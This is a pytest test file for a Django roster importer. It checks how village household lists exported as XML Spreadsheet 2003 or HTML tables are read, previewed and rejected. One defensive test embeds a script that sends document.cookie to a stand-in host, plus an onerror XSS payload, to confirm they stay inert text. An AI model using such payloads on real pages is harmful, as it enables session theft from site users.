"""Rosters that other systems export as "Excel": XML Spreadsheet 2003 and HTML tables.

Read like workbooks (header detection, value cleaning, preview, error workbook), and refused
naming what they are when they hold no roster. Hostile ones (entities, nesting, spans, a
million empty cells) are among the files of tests/test_villages_hostile_files.py.
"""

import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import translation

from common.spreadsheets.errors import SpreadsheetError
from common.spreadsheets.reading import read_sheets
from tests import roster_files
from tests.factories import (
    make_cadre,
    make_county,
    make_household,
    make_township,
    make_unit,
    make_village,
    resident_id,
)
from units.models import HouseholdAssignment
from villages.imports import batches
from villages.models import Household, ImportBatch, Village

pytestmark = pytest.mark.django_db

ID_A = resident_id(11, born="19650315")
ID_B = resident_id(12, born="19720101")
ID_C = resident_id(13, born="19801231")
EXCEL_NUMBER = "身份证号被Excel转成了数字，请设为文本格式后重填"
HOUSEHOLDS = [
    ["蔡大明", ID_A, "13800138000", "3人", "脱贫户", "蔡寨村1号"],
    ["蔡小红", ID_B, "0530-7654321", 2, "一般户", "蔡寨村2号"],
]


@pytest.fixture
def area() -> dict:
    county = make_county(code="371728000000", name="东明县")
    township = make_township(county=county, code="371728104000", name="沙沃镇")
    return {
        "county": county,
        "township": township,
        "caizhai": make_village(township=township, code="371728104202", name="蔡寨村"),
        "wangzhai": make_village(township=township, code="371728104201", name="王寨村"),
    }


def run(data: bytes, scope: object, *, name: str = "花名册.xls") -> ImportBatch:
    batch = batches.create_batch(data=data, file_name=name, scope=scope)
    return batches.check_batch(batch)


def counts(batch: ImportBatch) -> tuple[int, int, int, int, int]:
    return (batch.created, batch.updated, batch.unchanged, batch.rejected, batch.skipped)


def rejections(batch: ImportBatch) -> list[tuple[int, str, str]]:
    return [(r["row"], r["column"], r["reason"]) for r in batch.report["rejected"]]


def refusal(data: bytes, name: str = "花名册.xls") -> SpreadsheetError:
    """The error reading ``data``, its sheets and their rows, raises."""
    with pytest.raises(SpreadsheetError) as raised:
        for sheet in read_sheets(data, filename=name):
            for _row in sheet.rows:
                pass
    return raised.value


# XML Spreadsheet 2003


def test_an_xml_spreadsheet_roster_with_title_totals_and_signatures_imports(area: dict) -> None:
    rows = roster_files.clerk_roster(HOUSEHOLDS)
    data = roster_files.xml_spreadsheet(
        {"Sheet1": rows}, spans={("Sheet1", 1, 1): (6, 0), ("Sheet1", 2, 1): (3, 0)}
    )
    assert data.startswith(b'<?xml version="1.0" encoding="utf-8"?>\n<?mso-application')
    batch = run(data, area["caizhai"])
    assert batch.status == ImportBatch.Status.PREVIEWED, batch.message
    assert counts(batch) == (2, 0, 0, 0, 3)
    assert batch.report["sheets"][0]["header_row"] == 3

    batches.confirm_batch(batch)
    assert set(Household.objects.values_list("head_name", "id_number", "members")) == {
        ("蔡大明", ID_A, 3),
        ("蔡小红", ID_B, 2),
    }


def test_xml_worksheets_merges_gaps_types_and_hidden_sheets_are_read_as_excel_reads_them(
    area: dict,
) -> None:
    header = ["所在村", "户主姓名", "身份证号码", "家庭人口", "登记日期"]
    main = [
        header,
        ["蔡寨村", "蔡甲", ID_A, 3, None],
        [None, "蔡乙", ID_B, None, None],  # the village merged down from the row above
        None,
        ["王寨村", "王丙", ID_C, 4.0, None],
    ]
    main[3] = [None] * 5  # an empty row: the next row is written with ss:Index
    data = roster_files.xml_spreadsheet(
        {
            "填表说明": [["请按村填写"]],
            "花名册": main,
            "旧表": [header, ["蔡寨村", "旧户", resident_id(14, born="19500101"), 1]],
        },
        hidden=["旧表"],
        spans={("花名册", 2, 1): (0, 1)},
    )
    sheets = read_sheets(data, filename="导出.xls")
    assert [(sheet.name, sheet.hidden) for sheet in sheets] == [
        ("填表说明", False),
        ("花名册", False),
        ("旧表", True),
    ]
    assert list(sheets[1].rows) == [
        header,
        ["蔡寨村", "蔡甲", ID_A, 3],
        ["蔡寨村", "蔡乙", ID_B],
        [],
        ["王寨村", "王丙", ID_C, 4],
    ]

    batch = run(data, area["township"])
    assert counts(batch) == (3, 0, 0, 0, 1), "the empty row is skipped"
    assert batch.report["skipped_sheets"] == ["填表说明", "旧表"]
    batches.confirm_batch(batch)
    assert set(Household.objects.values_list("village__name", "head_name")) == {
        ("蔡寨村", "蔡甲"),
        ("蔡寨村", "蔡乙"),
        ("王寨村", "王丙"),
    }


def test_an_id_exported_as_an_xml_number_has_lost_its_digits_and_goes_to_the_error_workbook(
    area: dict,
) -> None:
    rows = [
        ["户主姓名", "身份证号码", "家庭人口"],
        ["蔡甲", ID_A, 3],
        ["蔡乙", int(ID_B[:17] + "1"), 2],
    ]
    data = roster_files.xml_spreadsheet({"Sheet1": rows})
    assert f'<Data ss:Type="Number">{rows[2][1]}</Data>' in data.decode()
    number = read_sheets(data, filename="a.xls")[0]
    assert list(number.rows)[2][1] == float(f"{rows[2][1]:.15g}"), "15 digits, as Excel keeps"

    batch = batches.confirm_batch(run(data, area["caizhai"]))
    assert (batch.created, batch.rejected) == (1, 1)
    assert rejections(batch)[0][:2] == (3, "身份证号")
    assert "身份证号被Excel转成了数字" in rejections(batch)[0][2]

    book = openpyxl.load_workbook(io.BytesIO(batch.error_file.read()))
    table = [list(row) for row in book.worksheets[0].iter_rows(values_only=True)]
    assert table[0] == ["户主姓名", "身份证号码", "家庭人口", "错误原因", "原行号"]
    assert table[1][0] == "蔡乙"
    assert table[1][4] == 3


def test_an_xml_spreadsheet_declared_gbk_is_read(area: dict) -> None:
    rows = [["户主姓名", "身份证号码", "家庭住址"], ["蔡甲", ID_A, "蔡寨村东街"]]
    data = roster_files.xml_spreadsheet({"Sheet1": rows}, encoding="GBK")
    assert "蔡甲".encode("gbk") in data
    assert counts(run(data, area["caizhai"])) == (1, 0, 0, 0, 0)


# HTML tables


@pytest.mark.parametrize(
    ("encoding", "meta"),
    [("utf-8", True), ("utf-8", False), ("gbk", True), ("gbk", False), ("gb2312", True)],
)
def test_an_html_table_roster_is_read_in_utf8_or_gbk_with_or_without_a_meta_charset(
    area: dict, encoding: str, meta: bool
) -> None:
    rows = roster_files.clerk_roster(HOUSEHOLDS)
    data = roster_files.html_table(
        rows, encoding=encoding, meta=meta, text_columns=[2], spans={(0, 0): (7, 1)}
    )
    batch = run(data, area["caizhai"])
    assert batch.status == ImportBatch.Status.PREVIEWED, batch.message
    assert counts(batch) == (2, 0, 0, 0, 3)
    batches.confirm_batch(batch)
    assert set(Household.objects.values_list("head_name", "id_number", "address")) == {
        ("蔡大明", ID_A, "蔡寨村1号"),
        ("蔡小红", ID_B, "蔡寨村2号"),
    }


def test_rowspan_and_colspan_cells_are_placed_and_a_spanned_village_names_every_row(
    area: dict,
) -> None:
    rows = [
        ["沙沃镇农户花名册", None, None, None],
        ["所在村", "户主姓名", "身份证号码", "家庭人口"],
        ["蔡寨村", "蔡甲", ID_A, 3],
        [None, "蔡乙", ID_B, 2],
        ["王寨村", "王丙", ID_C, 5],
    ]
    data = roster_files.html_table(rows, spans={(0, 0): (4, 1), (2, 0): (1, 2)})
    assert "rowspan=2" in data.decode()
    sheet = read_sheets(data, filename="花名册.xls")[0]
    assert list(sheet.rows) == [
        ["沙沃镇农户花名册"],
        ["所在村", "户主姓名", "身份证号码", "家庭人口"],
        ["蔡寨村", "蔡甲", ID_A, "3"],
        ["蔡寨村", "蔡乙", ID_B, "2"],
        ["王寨村", "王丙", ID_C, "5"],
    ]
    batch = run(data, area["township"])
    assert counts(batch) == (3, 0, 0, 0, 0)
    batches.confirm_batch(batch)
    assert Household.objects.filter(village=area["caizhai"]).count() == 2


def test_the_roster_is_found_among_several_tables_and_a_layout_table_is_passed_over(
    area: dict,
) -> None:
    layout = (
        "<table><tr><td>单位：沙沃镇</td><td>导出时间：2026-11-30</td></tr></table>"
        "<table><tr><td><table><tr><td>第1页</td></tr></table></td></tr></table>"
    )
    rows = [["户主姓名", "身份证号码"], ["蔡甲", ID_A], ["蔡乙", ID_B]]
    data = roster_files.html_table(rows, before=layout)
    sheets = read_sheets(data, filename="花名册.xls")
    with translation.override("zh-hans"):
        names = [sheet.name for sheet in read_sheets(data, filename="花名册.xls")]
    # Numbered in the order the tables begin; the one holding only a table is no sheet.
    assert names == ["表格1", "表格3", "表格4"]
    assert list(sheets[0].rows) == [["单位：沙沃镇", "导出时间：2026-11-30"]]
    batch = run(data, area["caizhai"])
    assert counts(batch) == (2, 0, 0, 0, 0)
    assert [sheet["name"] for sheet in batch.report["sheets"]] == ["表格4"]


def test_a_script_in_a_cell_comes_out_as_text_and_is_never_run_or_fetched(area: dict) -> None:
    script = "<script>fetch('http://203.0.113.9/steal?c='+document.cookie)</script>"
    page = (
        "<html><head><script src='http://203.0.113.9/x.js'></script>"
        "<link rel=stylesheet href='http://203.0.113.9/s.css'></head><body><table>"
        "<tr><th>户主姓名</th><th>身份证号码</th><th>家庭住址</th></tr>"
        f"<tr><td>蔡甲</td><td style='mso-number-format:\"\\@\"'>{ID_A}</td>"
        f"<td>东街{script}<img src=x onerror=alert(1)>1号</td></tr>"
        "</table></body></html>"
    ).encode()
    rows = list(read_sheets(page, filename="花名册.xls")[0].rows)
    assert rows[1] == ["蔡甲", ID_A, f"东街{script}1号"]

    batch = batches.confirm_batch(run(page, area["caizhai"]))
    assert batch.created == 1
    assert Household.objects.get().address == f"东街{script}1号"


def test_entities_comments_and_line_breaks_in_cells_are_read_as_shown() -> None:
    page = (
        "<table><tr><td>户主&nbsp;姓名</td><td>备注</td></tr>"
        "<tr><td> 蔡&amp;甲 </td><td>第一行<br>第二行<!-- 隐藏 --></td></tr></table>"
    ).encode()
    assert list(read_sheets(page, filename="a.xls")[0].rows) == [
        ["户主 姓名", "备注"],
        ["蔡&甲", "第一行\n第二行"],
    ]


def test_numbers_marked_by_excel_are_read_as_excel_reads_them_and_text_cells_stay_text() -> None:
    page = (
        "<table><tr><td>户主姓名</td><td>身份证号码</td><td>家庭人口</td></tr>"
        f'<tr><td>蔡甲</td><td x:num="{ID_A[:17]}0">3.71728E+17</td><td x:num>3</td></tr>'
        f"<tr><td>蔡乙</td><td style='mso-number-format:\"\\@\"' x:num>{ID_B}</td>"
        "<td>2</td></tr></table>"
    ).encode()
    rows = list(read_sheets(page, filename="a.xls")[0].rows)
    assert rows[1] == ["蔡甲", float(f"{int(ID_A[:17] + '0'):.15g}"), 3]
    assert rows[2] == ["蔡乙", ID_B, "2"]


# The assignment import and the admin


def test_the_assignment_import_takes_xml_and_html_lists(area: dict) -> None:
    unit = make_unit(name="市委组织部")
    make_cadre(unit=unit, name="张明", phone="13912345678")
    make_household(village=area["caizhai"], head_name="蔡大明", id_number=ID_A)
    make_household(village=area["caizhai"], head_name="蔡小红", id_number=ID_B)
    header = ["单位", "干部姓名", "干部手机", "户主姓名", "户主身份证号"]
    first = [header, ["市委组织部", "张明", "13912345678", "蔡大明", ID_A]]
    second = [header, ["市委组织部", "张明", "13912345678", "蔡小红", ID_B]]
    for data in (
        roster_files.xml_spreadsheet({"Sheet1": first}),
        roster_files.html_table(second, encoding="gbk", text_columns=[2, 4]),
    ):
        batch = batches.check_batch(
            batches.create_batch(
                data=data,
                file_name="联系户名单.xls",
                scope=None,
                kind=ImportBatch.Kind.ASSIGNMENTS,
            )
        )
        assert counts(batch) == (1, 0, 0, 0, 0), batch.message
        batches.confirm_batch(batch)
    assert set(
        HouseholdAssignment.objects.active().values_list("household__head_name", "cadre__name")
    ) == {("蔡大明", "张明"), ("蔡小红", "张明")}


@pytest.mark.parametrize("name", ["花名册.xml", "花名册.html", "花名册.htm", "花名册.xls"])
def test_the_upload_page_takes_exported_files_by_any_of_their_names(
    superuser_client: Client, name: str
) -> None:
    caizhai = Village.objects.get(name="蔡寨村")
    rows = [["户主姓名", "身份证号码"], ["蔡甲", ID_A]]
    data = (
        roster_files.xml_spreadsheet({"Sheet1": rows})
        if name.endswith((".xml", ".xls"))
        else roster_files.html_table(rows)
    )
    response = superuser_client.post(
        reverse("admin:villages_importbatch_add"),
        {"file": SimpleUploadedFile(name, data), "village": caizhai.pk},
    )
    assert response.status_code == 302, response.text
    batch = ImportBatch.objects.get()
    assert (batch.status, batch.created) == ("previewed", 1)
    preview = superuser_client.get(reverse("admin:villages_importbatch_change", args=[batch.pk]))
    assert "蔡甲" in preview.text


# Files that hold no roster, and hostile files


@pytest.mark.parametrize(
    ("data", "code", "message"),
    [
        (
            "<html><head><title>统一身份认证 - 登录</title></head><body><form><table><tr>"
            "<td>用户名</td><td><input name=user></td></tr><tr><td>密码</td>"
            "<td><input type='password' name=pw></td></tr></table></form></body></html>",
            "login_page",
            "此文件是保存下来的登录页面（“统一身份认证 - 登录”），不是花名册："
            "导出时系统要求先登录。请登录系统后重新导出花名册，再上传新文件。",
        ),
        (
            "<!DOCTYPE html><html><head><title>首页 - 扶贫信息系统</title></head>"
            "<body><h1>欢迎</h1><p>今日无新消息</p></body></html>",
            "web_page",
            "此文件是网页（“首页 - 扶贫信息系统”），其中没有数据表格，不是花名册。"
            "请从系统中重新导出Excel，或把表格复制到Excel或WPS中，另存为“Excel工作簿(.xlsx)”后上传。",
        ),
        (
            '<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="x"><soap:Body/>'
            "</soap:Envelope>",
            "xml_document",
            "此文件是XML文档（<soap:Envelope>），不是电子表格。请从系统中把花名册导出为Excel，"
            "或用Excel或WPS打开此文件，另存为“Excel工作簿(.xlsx)”后上传。",
        ),
    ],
    ids=["login-page", "web-page", "other-xml"],
)
def test_a_markup_file_without_a_roster_is_refused_naming_what_it_is(
    data: str, code: str, message: str
) -> None:
    with translation.override("zh-hans"):
        error = refusal(data.encode())
    assert (error.code, str(error)) == (code, message)


def test_a_cell_spanning_a_million_rows_covers_only_the_rows_there_are() -> None:
    page = (
        "<table><tr><th>所在村</th><th>户主姓名</th></tr>"
        '<tr><td rowspan="1000000">蔡寨村</td><td>蔡甲</td></tr><tr><td>蔡乙</td></tr></table>'
    ).encode()
    assert list(read_sheets(page, filename="a.xls")[0].rows) == [
        ["所在村", "户主姓名"],
        ["蔡寨村", "蔡甲"],
        ["蔡寨村", "蔡乙"],
    ]
